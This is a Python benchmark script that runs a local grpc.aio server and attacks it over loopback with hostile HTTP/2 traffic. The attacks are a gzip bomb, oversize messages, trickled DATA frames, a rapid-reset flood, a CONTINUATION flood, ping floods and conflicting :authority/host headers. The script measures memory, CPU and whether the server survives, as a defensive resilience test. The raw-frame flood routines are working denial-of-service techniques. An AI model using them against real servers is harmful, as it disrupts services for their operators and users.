"""Probe what a hostile HTTP/2 peer can do to a grpc.aio server of the grpcio version that runs this file.

    /tmp/grpcio-versions/1.82.3/bin/python bench/grpcio_hostile.py [PROBE ...]

The parent starts a server process (this file with `serve`) per probe, speaks raw HTTP/2 to it over loopback
or calls it with grpc, and prints the server's peak memory growth and whether it still serves afterwards.
Every probe is bounded in bytes and time.
"""

import asyncio
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

SERVICE = "meshmart.bench.Hostile"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MIB = 1 << 20


async def serve() -> None:
    """Serve until standard input closes."""
    import grpc
    import grpc.aio

    started = 0

    async def unary(request: bytes, context: Any) -> bytes:
        nonlocal started
        started += 1
        return str(len(request)).encode()

    async def metadata(request: bytes, context: Any) -> bytes:
        return repr([tuple(item) for item in context.invocation_metadata()]).encode()

    async def count(request: bytes, context: Any) -> bytes:
        return str(started).encode()

    handlers: dict[str, Any] = {
        "Unary": grpc.unary_unary_rpc_method_handler(unary),
        "Metadata": grpc.unary_unary_rpc_method_handler(metadata),
        "Count": grpc.unary_unary_rpc_method_handler(count),
    }
    server = grpc.aio.server(options=[("grpc.so_reuseport", 0)])
    server.add_generic_rpc_handlers((grpc.method_handlers_generic_handler(SERVICE, handlers),))
    port = server.add_insecure_port("127.0.0.1:0")
    await server.start()
    print(port, flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value: int) -> bytes:
    """Encode an HPACK string length without Huffman coding."""
    if value < 127:
        return bytes([value])
    out, value = [127], value - 127
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def block(headers: list[tuple[bytes, bytes]]) -> bytes:
    return b"".join(b"\x00" + integer(len(k)) + k + integer(len(v)) + v for k, v in headers)


def request(path: bytes, *more: tuple[bytes, bytes], authority: bytes | None = b"localhost") -> bytes:
    headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path)]
    if authority is not None:
        headers.append((b":authority", authority))
    return block([*headers, (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more])


class Peer:
    """A raw HTTP/2 connection that honours the flow control of the connection."""

    def __init__(self, port: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.settimeout(3)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 20)))
        self.buffer = b""
        self.window = 65535  # what the connection may still send, in bytes
        #: Kind, flags, stream and payload of each frame received.
        self.frames: list[tuple[int, int, int, bytes]] = []
        self.closed = ""
        time.sleep(0.1)
        self.pump()

    def pump(self, wait: float = 0.0) -> None:
        """Read what has arrived."""
        self.socket.settimeout(wait or 0.0001)
        try:
            while not self.closed:
                got = self.socket.recv(1 << 16)
                if not got:
                    self.closed = "closed"
                    break
                self.buffer += got
                self.parse()
        except (TimeoutError, BlockingIOError):
            pass
        except OSError as error:
            self.closed = type(error).__name__
        self.socket.settimeout(3)

    def parse(self) -> None:
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload, self.buffer = self.buffer[9 : 9 + size], self.buffer[9 + size :]
            if kind == WINDOW_UPDATE and not stream:
                self.window += int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0, b""))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY:
                self.closed = f"GOAWAY {int.from_bytes(payload[4:8], 'big')} {payload[8:60]!r}"
            self.frames.append((kind, flags, stream, payload))

    def send(self, data: bytes) -> bool:
        try:
            self.socket.sendall(data)
        except OSError as error:
            self.closed = self.closed or type(error).__name__
        return not self.closed


class Server:
    def __enter__(self) -> "Server":
        self.process = subprocess.Popen(
            [sys.executable, __file__, "serve"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            stderr=subprocess.PIPE,
        )
        assert self.process.stdout is not None
        self.port = int(self.process.stdout.readline())
        self.call("Unary")
        self.base = self.peak()
        return self

    def __exit__(self, *_: object) -> None:
        self.process.kill()
        self.err = self.process.communicate()[1]

    def stat(self, name: str) -> float:
        """Return a figure of the server in MiB."""
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            if line.startswith(name):
                return int(line.split()[1]) / 1024
        return 0.0

    def peak(self) -> float:
        return self.stat("VmHWM")

    def cpu(self) -> float:
        fields = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / 100

    def call(self, method: str, payload: bytes = b"", **more: Any) -> str:
        """Call the server on a new connection; return the answer or the status."""
        import grpc

        options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
        with grpc.insecure_channel(f"127.0.0.1:{self.port}", options=options) as channel:
            try:
                call: Any = channel.unary_unary(f"/{SERVICE}/{method}")
                return str(call(payload, timeout=20, **more).decode())
            except grpc.RpcError as error:
                return f"{error.code().name} {(error.details() or '')[:70]}"

    def verdict(self) -> str:
        return f"peak +{self.peak() - self.base:.0f} MiB, afterwards {self.call('Unary', b'xyz')!r}"


def bomb(server: Server) -> str:
    """Send a gzip message of 0.25 MiB that expands to 256 MiB, while the limit is 4 MiB."""
    import grpc

    return server.call("Unary", bytes(256 * MIB), compression=grpc.Compression.Gzip)


def oversize(server: Server) -> str:
    """Send a message of 256 MiB, uncompressed, while the limit is 4 MiB."""
    return server.call("Unary", bytes(256 * MIB))


def crumbs(server: Server) -> str:
    """Send messages of 60 kB in DATA frames of one byte, never ended, on 20 streams."""
    peer = Peer(server.port)
    path = f"/{SERVICE}/Unary".encode()
    sent = 0
    one = [frame(DATA, 0, 1 + 2 * n, b"x") * 1000 for n in range(20)]
    for n in range(20):
        stream = 1 + 2 * n
        peer.send(frame(HEADERS, END_HEADERS, stream, request(path)))
        peer.send(frame(DATA, 0, stream, b"\x00" + struct.pack(">I", 60000)))
        peer.window -= 5
        for _ in range(59):
            ends = time.monotonic() + 3
            while peer.window < 1000 and not peer.closed and time.monotonic() < ends:
                peer.pump(0.05)
            if peer.closed or peer.window < 1000:
                break
            peer.send(one[n])
            peer.window -= 1000
            sent += 1000
            peer.pump()
    time.sleep(1)
    peer.pump()
    grown = server.stat("VmRSS") - server.base
    per_byte = grown * MIB / max(sent, 1)
    return f"{sent} bytes sent, {per_byte:.0f} bytes of memory per byte, {peer.closed or 'open'}"


def resets(server: Server) -> str:
    """Send 20 000 requests, each reset at once (rapid reset)."""
    peer, cpu = Peer(server.port), server.cpu()
    path = f"/{SERVICE}/Unary".encode()
    headers = request(path)
    done = 0
    for n in range(20000):
        stream = 1 + 2 * n
        if not peer.send(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(RST, 0, stream, struct.pack(">I", 8))
        ):
            break
        done += 1
        if n % 200 == 0:
            peer.pump()
    time.sleep(1)
    peer.pump()
    spent = server.cpu() - cpu
    return (
        f"{done} sent, {spent:.2f} s of CPU, handlers started {server.call('Count')}, {peer.closed or 'open'}"
    )


def continuations(server: Server) -> str:
    """Send one HEADERS frame and 40 000 CONTINUATION frames of 500 bytes (20 MB of metadata)."""
    peer = Peer(server.port)
    peer.send(frame(HEADERS, 0, 1, request(f"/{SERVICE}/Unary".encode())))
    done = 0
    for n in range(40000):
        if not peer.send(frame(CONTINUATION, 0, 1, block([(b"k%d" % n, b"v" * 480)]))):
            break
        done += 1
        if n % 200 == 0:
            peer.pump()
    return f"{done} sent, {peer.closed or 'open'}"


def pings(server: Server) -> str:
    """Send 100 000 pings whose answers are read, without a call."""
    peer, cpu, done = Peer(server.port), server.cpu(), 0
    for _ in range(1000):
        if not peer.send(frame(PING, 0, 0, b"12345678") * 100):
            break
        done += 100
        peer.pump()
    time.sleep(0.5)
    peer.pump()
    return f"{done} sent, {server.cpu() - cpu:.2f} s of CPU, {peer.closed or 'open'}"


def path(server: Server) -> str:
    """Send a request whose :path is not UTF-8."""
    peer = Peer(server.port)
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(b"/\xff\xfe/x")))
    time.sleep(0.5)
    peer.pump()
    return f"{peer.closed or 'open'}, answered {any(k == HEADERS for k, *_ in peer.frames)}"


def authority(server: Server) -> str:
    """Send requests with host beside :authority, with two authorities, and with two hosts."""
    out = []
    body = frame(DATA, END_STREAM, 1, b"\x00\x00\x00\x00\x00")
    p = f"/{SERVICE}/Metadata".encode()
    for name, headers in {
        "host beside authority": request(p, (b"host", b"evil")),
        "two authorities": request(p, (b":authority", b"evil")),
        "two hosts": request(p, (b"host", b"good"), (b"host", b"evil"), authority=None),
        "no authority": request(p, authority=None),
    }.items():
        peer = Peer(server.port)
        peer.send(frame(HEADERS, END_HEADERS, 1, headers) + body)
        time.sleep(0.4)
        peer.pump(0.1)
        data = b"".join(x for k, _, s, x in peer.frames if k == DATA and s == 1)[5:]
        rst = [x for k, _, s, x in peer.frames if k == RST]
        out.append(f"{name}: {data.decode()[:90] or ('RST' if rst else peer.closed or 'refused')}")
    return "; ".join(out)


PROBES = {f.__name__: f for f in (bomb, oversize, crumbs, resets, continuations, pings, path, authority)}


def main() -> None:
    if sys.argv[1:] == ["serve"]:
        asyncio.run(serve())
        return
    import grpc

    for name in sys.argv[1:] or PROBES:
        with Server() as server:
            result = PROBES[name](server)
            print(f"{grpc.__version__:8} {name:14} {result}; {server.verdict()}", flush=True)


if __name__ == "__main__":
    main()
